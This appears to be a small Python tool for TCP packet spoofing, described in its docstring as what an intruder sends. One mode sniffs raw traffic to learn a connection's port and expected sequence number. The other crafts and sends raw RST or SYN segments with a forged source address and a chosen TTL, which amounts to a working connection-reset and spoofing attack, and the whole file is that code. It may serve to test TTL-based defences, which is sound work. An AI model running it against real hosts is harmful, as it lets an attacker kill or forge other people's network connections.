"""What an intruder sends: segments with another's address, and no more hops to live than he can give them.

watch LOCAL REMOTE PORT       waits for a segment from LOCAL to REMOTE's PORT; prints LOCAL's port and what it expects next
send KIND SOURCE SPORT TARGET DPORT SEQUENCE TTL    sends one segment: rst or syn
"""

import socket
import struct
import sys


def checksum(octets):
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def watch(local, remote, port):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    wire.settimeout(20)
    while True:
        packet = wire.recv(65535)
        header = (packet[0] & 15) * 4
        if packet[9] != 6 or packet[12:16] != socket.inet_aton(local) or packet[16:20] != socket.inet_aton(remote):
            continue
        sport, dport, _, acknowledged = struct.unpack("!HHII", packet[header : header + 12])
        if dport == port:
            print(sport, acknowledged, flush=True)
            return


def send(kind, source, sport, target, dport, sequence, ttl):
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    flags = {"rst": 0x04, "syn": 0x02}[kind]
    segment = struct.pack("!HHIIBBHHH", sport, dport, sequence & 0xFFFFFFFF, 0, 5 << 4, flags, 1024, 0, 0)
    pseudo = addresses + struct.pack("!BBH", 0, 6, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(segment), 1, 0, ttl, 6, 0) + addresses
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(header + segment, (target, 0))


arguments = sys.argv[2:]
if sys.argv[1] == "watch":
    watch(arguments[0], arguments[1], int(arguments[2]))
else:
    kind, source, sport, target, dport, sequence, ttl = arguments
    send(kind, source, int(sport), target, int(dport), int(sequence), int(ttl))
